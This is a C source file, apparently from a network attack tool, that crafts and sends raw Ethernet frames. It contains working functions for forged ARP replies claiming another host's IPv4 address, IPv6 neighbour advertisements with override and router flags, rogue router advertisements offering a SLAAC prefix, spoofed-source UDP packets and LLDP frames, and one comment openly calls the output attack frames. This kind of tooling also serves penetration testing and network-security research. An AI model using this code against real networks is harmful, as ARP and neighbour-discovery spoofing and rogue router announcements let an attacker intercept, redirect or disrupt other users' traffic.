/* SPDX-License-Identifier: Apache-2.0 */
#include "frame.h"

#include <arpa/inet.h>
#include <assert.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

#include "net.h"

void
wire_open(struct wire *wire, const char *interface)
{
	struct ifreq request = {0};

	snprintf(request.ifr_name, sizeof request.ifr_name, "%s", interface);
	wire->fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
	wire->index = (int)if_nametoindex(interface);
	if (wire->fd < 0 || !wire->index || ioctl(wire->fd, SIOCGIFHWADDR, &request)) {
		perror(interface);
		exit(1);
	}
	memcpy(wire->mac, request.ifr_hwaddr.sa_data, ETH_ALEN);
}

void
wire_send(const struct wire *wire, const struct frame *frame)
{
	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = wire->index};

	/* A full queue loses a frame of an attack, which is no harm. */
	(void)!sendto(wire->fd, frame->bytes, frame->len, 0, (struct sockaddr *)&to, sizeof to);
}

void
frame_add(struct frame *frame, const void *bytes, size_t len)
{
	assert(frame->len + len <= sizeof frame->bytes);
	memcpy(frame->bytes + frame->len, bytes, len);
	frame->len += len;
}

void
frame_start(struct frame *frame, const uint8_t to[static ETH_ALEN],
	const uint8_t from[static ETH_ALEN], uint16_t type)
{
	struct ether_header header = {.ether_type = htons(type)};

	memcpy(header.ether_dhost, to, ETH_ALEN);
	memcpy(header.ether_shost, from, ETH_ALEN);
	frame->len = 0;
	frame_add(frame, &header, sizeof header);
}

void
frame_arp_reply(struct frame *frame, const uint8_t mac[static ETH_ALEN], struct in_addr claimed,
	const uint8_t to_mac[static ETH_ALEN], struct in_addr to)
{
	static const uint8_t reply[] = {0, 1, 8, 0, 6, 4, 0, 2}; /* Ethernet, IPv4, reply */

	frame_start(frame, to_mac, mac, ETHERTYPE_ARP);
	frame_add(frame, reply, sizeof reply);
	frame_add(frame, mac, ETH_ALEN);
	frame_add(frame, &claimed, sizeof claimed);
	frame_add(frame, to_mac, ETH_ALEN);
	frame_add(frame, &to, sizeof to);
}

/* Puts the IPv6 header and the ICMPv6 message, with its checksum. */
static void
add_icmp6(struct frame *frame, const struct in6_addr *from, const struct in6_addr *to,
	uint8_t *message, size_t len)
{
	struct ip6_hdr header = {.ip6_src = *from, .ip6_dst = *to};
	uint16_t sum;

	header.ip6_flow = htonl(0x60000000);
	header.ip6_plen = htons((uint16_t)len);
	header.ip6_nxt = IPPROTO_ICMPV6;
	header.ip6_hlim = 255;
	sum = checksum_over(AF_INET6, from, to, IPPROTO_ICMPV6, message, len);
	memcpy(message + 2, &sum, 2);
	frame_add(frame, &header, sizeof header);
	frame_add(frame, message, len);
}

void
frame_neighbour(struct frame *frame, const uint8_t mac[static ETH_ALEN],
	const struct in6_addr *claimed, const uint8_t to_mac[static ETH_ALEN],
	const struct in6_addr *to)
{
	uint8_t message[32] = {ND_NEIGHBOR_ADVERT, 0, 0, 0, 0xa0}; /* router, override */

	memcpy(message + 8, claimed, 16);
	message[24] = ND_OPT_TARGET_LINKADDR;
	message[25] = 1;
	memcpy(message + 26, mac, ETH_ALEN);
	frame_start(frame, to_mac, mac, ETHERTYPE_IPV6);
	add_icmp6(frame, claimed, to, message, sizeof message);
}

void
frame_router(struct frame *frame, const uint8_t mac[static ETH_ALEN], const struct in6_addr *from,
	const struct in6_addr *prefix)
{
	static const uint8_t all_nodes_mac[ETH_ALEN] = {0x33, 0x33, 0, 0, 0, 1};
	struct in6_addr all_nodes;
	/* Hop limit 64, no DHCPv6, router for 30 minutes; a prefix on the link for SLAAC, for an hour. */
	uint8_t message[48] = {ND_ROUTER_ADVERT, 0, 0, 0, 64, 0, 7,
		8, [16] = ND_OPT_PREFIX_INFORMATION, [17] = 4, [18] = 64, [19] = 0xc0, [22] = 14,
		[23] = 16, [26] = 14, [27] = 16};

	memcpy(message + 32, prefix, 16);
	inet_pton(AF_INET6, "ff02::1", &all_nodes);
	frame_start(frame, all_nodes_mac, mac, ETHERTYPE_IPV6);
	add_icmp6(frame, from, &all_nodes, message, sizeof message);
}

void
frame_udp4(struct frame *frame, const uint8_t to_mac[static ETH_ALEN],
	const uint8_t mac[static ETH_ALEN], struct in_addr from, uint16_t from_port,
	struct in_addr to, uint16_t port, const void *payload, size_t len)
{
	struct iphdr ip = {.ihl = 5,
		.version = 4,
		.tot_len = htons((uint16_t)(28 + len)),
		.ttl = 64,
		.protocol = IPPROTO_UDP,
		.saddr = from.s_addr,
		.daddr = to.s_addr};
	/* A zero checksum means "none" over IPv4 (RFC 768). */
	struct udphdr udp = {
		.source = htons(from_port), .dest = htons(port), .len = htons((uint16_t)(8 + len))};

	ip.check = checksum_end(checksum_add(0, &ip, sizeof ip));
	frame_start(frame, to_mac, mac, ETHERTYPE_IP);
	frame_add(frame, &ip, sizeof ip);
	frame_add(frame, &udp, sizeof udp);
	frame_add(frame, payload, len);
}

static void
add_tlv(struct frame *frame, unsigned type, const void *value, size_t len)
{
	uint16_t head = htons((uint16_t)(type << 9 | len));

	frame_add(frame, &head, sizeof head);
	if (len)
		frame_add(frame, value, len);
}

void
frame_lldp(struct frame *frame, const uint8_t mac[static ETH_ALEN], const char *url)
{
	static const uint8_t nearest_bridge[ETH_ALEN] = {1, 0x80, 0xc2, 0, 0, 0xe};
	static const uint8_t two_minutes[] = {0, 120};
	uint8_t id[1 + ETH_ALEN] = {4}; /* chassis: a MAC address */
	uint8_t mud[4 + 255] = {0, 0, 0x5e, 1};
	size_t len = strnlen(url, 255);

	memcpy(id + 1, mac, ETH_ALEN);
	memcpy(mud + 4, url, len);
	frame_start(frame, nearest_bridge, mac, ETH_P_LLDP);
	add_tlv(frame, 1, id, sizeof id);
	id[0] = 3; /* port: a MAC address */
	add_tlv(frame, 2, id, sizeof id);
	add_tlv(frame, 3, two_minutes, sizeof two_minutes);
	add_tlv(frame, 127, mud, 4 + len);
	add_tlv(frame, 0, NULL, 0);
}
